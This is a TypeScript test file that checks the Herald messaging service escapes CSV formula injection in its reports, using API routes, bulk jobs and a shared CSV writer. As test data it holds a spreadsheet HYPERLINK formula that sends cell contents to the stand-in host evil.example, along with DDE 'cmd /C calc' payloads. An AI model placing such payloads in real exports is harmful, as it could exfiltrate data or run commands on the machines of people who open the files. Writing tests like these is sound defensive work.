/**
 * CSV injection: every cell of every CSV Herald writes that starts with a character a spreadsheet
 * would run (=, +, -, @, tab, carriage return) comes out with an apostrophe in front, as GOV.UK
 * Notify writes it; the rest is RFC 4180. Reports are opened here as a spreadsheet opens them
 * (csv-parse), through the API routes and through the function `herald report` runs.
 */
import { describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { createLogger } from '../../src/log.ts'
import { jobsEngine } from '../../src/messaging/jobs/jobs.ts'
import { REPORT_HEADER, reportCsv } from '../../src/messaging/reports/report.ts'
import { createTemplate } from '../../src/messaging/services.ts'
import { LocalStore } from '../../src/storage/local.ts'
import { csvCell, csvLine, FORMULA_START, sqlCsvCell } from '../../src/util/csv.ts'
import { callApi, jobStore, messagingWorld, sealer } from '../helpers/messaging.ts'
import { seedNotifications } from '../helpers/notifications.ts'

const w = messagingWorld()
const log = createLogger('silent')
const DAY = '2026-11-20'
const AT = '2026-11-20T15:00:00Z' // 10:00 in New York, the service's time zone
const col = (name: string) => REPORT_HEADER.indexOf(name)

/** The report's cells as a spreadsheet reads them, header first. */
const cells = (csv: string) => parse(csv, { relaxColumnCount: false }) as string[][]

/** No cell of the whole file starts with a character a spreadsheet would run. */
function expectSafe(rows: string[][]) {
  const live = rows.flat().filter((c) => (FORMULA_START as readonly string[]).includes(c.charAt(0)))
  expect(live).toEqual([])
}

async function serviceReport() {
  const res = await callApi(w, 'GET', `/v2/reports/notifications?from=${DAY}&to=${DAY}`)
  expect(res.status).toBe(200)
  return cells(await res.text())
}

// Each character with what an attacker would put after it: a command, a link, a sum.
const ATTACKS = FORMULA_START.map((c) => ({ c, name: JSON.stringify(c), value: `${c}HYPERLINK("https://evil.example/?d="&A2,"Open"), cmd|' /C calc'!A0` }))

describe('CSV injection in reports', () => {
  describe.each(ATTACKS)('a cell starting with $name', ({ c, value }) => {
    it('in the reference is written as text', async () => {
      await seedNotifications(w.t.db, w.service, w.template.id, [{ at: AT }])
      await w.t.db.query(`UPDATE notifications SET reference = $1`, [value])
      const rows = await serviceReport()
      expect(rows[1][col('Reference')]).toBe(`'${value}`)
      expectSafe(rows)
    })

    it('in the template name is written as text', async () => {
      const t = await createTemplate(w.t.db, w.service.id, value, 'Your result is ready.', 'tester')
      await seedNotifications(w.t.db, w.service, w.template.id, [{ at: AT, templateId: t.id }])
      const rows = await serviceReport()
      expect(rows[1][col('Template')]).toBe(`'${value}`)
      expectSafe(rows)
    })

    it('in the phone number as supplied is written as text', async () => {
      const phone = `${c}1 212 555 0100`
      await seedNotifications(w.t.db, w.service, w.template.id, [{ at: AT, phone }])
      const rows = await serviceReport()
      expect(rows[1][col('Phone number')]).toBe(`'${phone}`)
      expectSafe(rows)
    })
  })

  it('holds for a text sent through the API: its number, reference and personalisation', async () => {
    const personalisation = { name: '=cmd|\' /C calc\'!A0', ref: '@SUM(1+1)*cmd|\' /C calc\'!A0' }
    const sent = await callApi(w, 'POST', '/v2/notifications/sms', {
      phone_number: '+1 212 555 0101', template_id: w.template.id, reference: '-2+3+cmd|\' /C calc\'!A0', personalisation })
    expect(sent.status).toBe(201)
    const day = (d: number) => new Date(Date.now() + d * 86400_000).toISOString().slice(0, 10) // around today, wherever the service is
    const res = await callApi(w, 'GET', `/v2/reports/notifications?from=${day(-1)}&to=${day(1)}`)
    const text = await res.text()
    const rows = cells(text)
    expectSafe(rows)
    expect(rows[1][col('Phone number')]).toBe("'+1 212 555 0101")
    expect(rows[1][col('Reference')]).toBe("'-2+3+cmd|' /C calc'!A0")
    // Personalisation is not a column of the report: none of it is written, escaped or not.
    for (const v of Object.values(personalisation)) expect(text).not.toContain(v)
  })

  it("holds for a bulk job's report, by the API route and by the function `herald report` runs", async () => {
    const filename = '=HYPERLINK("https://evil.example","Open").csv'
    const csv = ['phone number,name,ref', '+1 (212) 555-2000,=cmd|\' /C calc\'!A0,@SUM(1)', '+1 212 555 2001,-1+1,+1+1'].join('\n')
    const up = await callApi(w, 'POST', '/v2/jobs', { template_id: w.template.id, csv, filename })
    expect(up.status).toBe(201)
    const jobId = (await up.json()).id as string
    const store = new LocalStore(jobStore)
    await jobsEngine({ sealer, region: 'US', store }, log).step(w.t.db, new AbortController().signal)

    const res = await callApi(w, 'GET', `/v2/jobs/${jobId}/report`)
    expect(res.status).toBe(200)
    const viaApi = await res.text()
    let viaCli = ''
    for await (const chunk of reportCsv(w.t.db, sealer, { serviceId: w.service.id, jobId })) viaCli += chunk
    expect(viaCli).toBe(viaApi)
    const rows = cells(viaApi)
    expectSafe(rows)
    expect(rows.slice(1).map((r) => r[col('Phone number')])).toEqual(["'+1 (212) 555-2000", "'+1 212 555 2001"])
    // The job's file name and its personalisation are not columns of the report: none of it is written.
    for (const v of ['HYPERLINK', 'cmd|', 'SUM(']) expect(viaApi).not.toContain(v)
  })
})

describe('the shared CSV writer', () => {
  const values = [
    '', 'plain', 'Result ready', '12125550001', "'already text", ' =space first', 'a,b', 'say "hi"', 'two\nlines', 'mid\rreturn', 'tab\tinside',
    'é=ü', '+', '-', '=', ...FORMULA_START.flatMap((c) => [c, `${c}1+1`, `${c}a,b`, `${c}"q"`, `${c}x\ny`, `${c}${c}`]),
  ]

  it('neutralises exactly the cells that start with a formula character, then quotes as RFC 4180', () => {
    for (const v of values) {
      const [[back]] = parse(csvCell(v) + '\n') as string[][]
      const formula = (FORMULA_START as readonly string[]).includes(v.charAt(0))
      expect(back, JSON.stringify(v)).toBe(formula ? `'${v}` : v)
    }
    expect(csvLine(['=a', 'b,c', '-1'])).toBe(`'=a,"b,c",'-1\n`)
  })

  it('gives the same cell in SQL as in this process, on this database', async () => {
    for (const v of values) {
      const [r] = await w.t.db.query(`SELECT ${sqlCsvCell('$1::text')} AS cell`, [v])
      expect(r.cell, JSON.stringify(v)).toBe(csvCell(v))
    }
  })
})
